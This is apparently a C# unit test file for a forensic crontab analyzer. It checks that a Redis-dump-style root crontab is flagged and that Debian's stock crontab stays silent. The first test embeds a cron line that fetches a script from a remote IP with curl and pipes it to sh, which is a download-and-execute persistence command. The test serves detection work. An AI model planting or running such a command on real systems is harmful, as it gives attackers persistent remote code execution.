using System.Text;
using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Parsers;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

/// <summary>From the bytes of a table through the real parser to the finding.</summary>
public sealed class ParsedCrontabTests
{
    [Fact]
    public void A_redis_dump_in_the_spool_is_found_with_its_line()
    {
        Case host = Case.Rhel().User("root", 0);
        var sink = new ArtifactList();
        byte[] content = [.. "REDIS0009"u8, 0xFA, 0x09, 0x00, .. Encoding.ASCII.GetBytes("\n\n*/2 * * * * curl -fsSL http://203.0.113.9/b.sh | sh\n\n"), 0xFF, 0x01];
        EvidenceLocation location = host.At("/var/spool/cron/root");
        new CrontabParser().Parse(new ArtifactInput(location, new FileEntry { Type = FileType.Regular, Permissions = 0x180, Size = content.Length, LinkCount = 1 }, content), sink);
        IReadOnlyList<Finding> findings = host.Add([.. sink.Artifacts]).Judge();
        Finding job = Assert.Single(findings, finding => finding.Rule.Id == "L-CRON-USER.download-pipe-shell");
        Assert.Equal(Severity.Critical, job.Severity);
        Assert.Equal(3, job.Location.Line);
        Assert.Equal(Severity.Critical, Assert.Single(findings, finding => finding.Rule.Id == "L-CRON-USER.binary-noise").Severity);
    }

    [Fact]
    public void Debians_own_crontab_is_silent()
    {
        Case host = Case.Debian().User("root", 0);
        var sink = new ArtifactList();
        byte[] content = Encoding.ASCII.GetBytes("# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
            + "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n#\n");
        new CrontabParser().Parse(new ArtifactInput(host.At("/etc/crontab"), new FileEntry { Type = FileType.Regular, Permissions = 0x1A4, Size = content.Length, LinkCount = 1 }, content), sink);
        Assert.Equal(2, sink.Artifacts.OfType<CronJob>().Count());
        Assert.Empty(host.Add([.. sink.Artifacts]).Judge());
    }
}
